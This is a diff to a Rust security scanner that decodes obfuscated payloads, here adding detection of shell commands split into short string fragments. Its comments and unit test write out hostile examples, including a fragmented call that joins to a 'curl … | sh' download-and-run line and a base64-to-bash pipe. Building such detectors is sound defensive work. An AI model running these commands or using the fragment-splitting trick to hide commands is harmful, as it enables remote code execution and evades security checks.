@@ -1,5 +1,6 @@
-//! Encoded payloads (base64, zlib+base64, hex, `\x` escapes, char codes, rot13), decoded and scanned
-//! again with the whole rule set, so `echo <base64> | base64 -d | bash` is judged by what it runs.
+//! Encoded payloads (base64, zlib+base64, hex, `\x` escapes, char codes, rot13, split string fragments),
+//! decoded and scanned again with the whole rule set, so `echo <base64> | base64 -d | bash` is judged by
+//! what it runs.
 //!
 //! Only plausible payloads are decoded: long enough, and decoding to mostly printable text (after
 //! inflating zlib/gzip). Images, fonts and source maps in `data:` URIs, hashes and random tokens decode to
@@ -65,6 +66,7 @@ pub(crate) static ENCODED_CODE: FileDetector = FileDetector {
         "bytearray(",
         "EncodedCommand",
         "-enc ",
+        ".join(",
     ],
     run: report_encoded_code,
 };
@@ -93,6 +95,18 @@ static CHAR_CODES: LazyLock<Regex> = LazyLock::new(|| {
 static ROT13: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"codecs\.decode\(\s*['"]([^'"\n]{8,})['"]\s*,\s*['"]rot_?13['"]"#)
         .expect("rot13 pattern")
+});
+/// Four or more short string literals (with names between them) as the arguments of one call or the items of
+/// one list: `_h("cu", "rl -s", "fL ht", "tps://", host, …)`, a command split so no rule reads it whole.
+static FRAGMENTS: LazyLock<Regex> = LazyLock::new(|| {
+    let item = r#"(?:"[^"\\\n]{1,12}"|'[^'\\\n]{1,12}'|[A-Za-z_][A-Za-z0-9_.]*)"#;
+    Regex::new(&format!(
+        r"[(\[][ \t]*((?:{item}[ \t]*,[ \t]*){{3,}}{item})[ \t]*,?[ \t]*[)\]]"
+    ))
+    .expect("fragments pattern")
+});
+static FRAGMENT_ITEM: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#""([^"\\\n]*)"|'([^'\\\n]*)'|([A-Za-z_][\w.]*)"#).expect("fragment item pattern")
 });
 /// Text that reads as commands or code (what makes an encoded payload worth reporting on its own).
 // A constant pattern (its tests compile it): `expect` never sees scanned data.
@@ -175,9 +189,40 @@ fn find_payloads(body: &str, base: usize) -> Vec<Payload> {
             Some((rot13(inner.as_str()), false)),
         );
     }
+    for c in FRAGMENTS.captures_iter(body).take(MAX_CANDIDATES) {
+        let (Some(whole), Some(list)) = (c.get(0), c.get(1)) else {
+            continue;
+        };
+        push(
+            whole.start(),
+            whole.end(),
+            "joined string fragments",
+            joined_fragments(list.as_str()),
+        );
+    }
     found.sort_by_key(|p| p.start);
     found.dedup_by_key(|p| p.start);
     found
+}
+
+/// The literals joined in order, a name between them standing for its value (`${host}`); only when a literal
+/// breaks a word (the text was split to hide it, not a list of words) and the result reads as text.
+fn joined_fragments(list: &str) -> Option<(String, bool)> {
+    let mut joined = String::new();
+    let mut literals = Vec::new();
+    for item in FRAGMENT_ITEM.captures_iter(list) {
+        if let Some(literal) = item.get(1).or_else(|| item.get(2)) {
+            joined.push_str(literal.as_str());
+            literals.push(literal.as_str());
+        } else if let Some(name) = item.get(3) {
+            joined.push_str(&format!("${{{}}}", name.as_str()));
+        }
+    }
+    let splits_words = literals.windows(2).any(|pair| {
+        pair[0].ends_with(|c: char| c.is_ascii_alphanumeric())
+            && pair[1].starts_with(|c: char| c.is_ascii_alphanumeric())
+    });
+    (literals.len() >= 4 && splits_words && is_readable_text(&joined)).then_some((joined, false))
 }
 
 /// `-----BEGIN …-----` to `-----END …-----`: certificates and keys are base64 of DER, not payloads.
@@ -624,6 +669,14 @@ mod tests {
         assert_eq!(all[1].1, "curl -s x.example.invalid");
         assert_eq!(all[2].1, "eval(payload); // run");
         assert_eq!(all[3].1, "import os; os.system(1)");
+    }
+
+    #[test]
+    fn string_fragments_are_joined_but_lists_of_words_are_not() {
+        let text = "cmd = _h(\"cu\", \"rl -s\", \"fL ht\", \"tps://\", host, \"/p.s\", \"h | s\", \"h\")\nm = (\"GET\", \"POST\", \"PUT\", \"DELETE\")\nn = \" \".join([\"install\", \"the\", \"package\", \"now\"])\n";
+        let all = found(text, Language::Python, "pkg/util.py");
+        let joined: Vec<&str> = all.iter().map(|(_, t)| t.as_str()).collect();
+        assert_eq!(joined, ["curl -sfL https://${host}/p.sh | sh"], "{all:?}");
     }
 
     #[test]
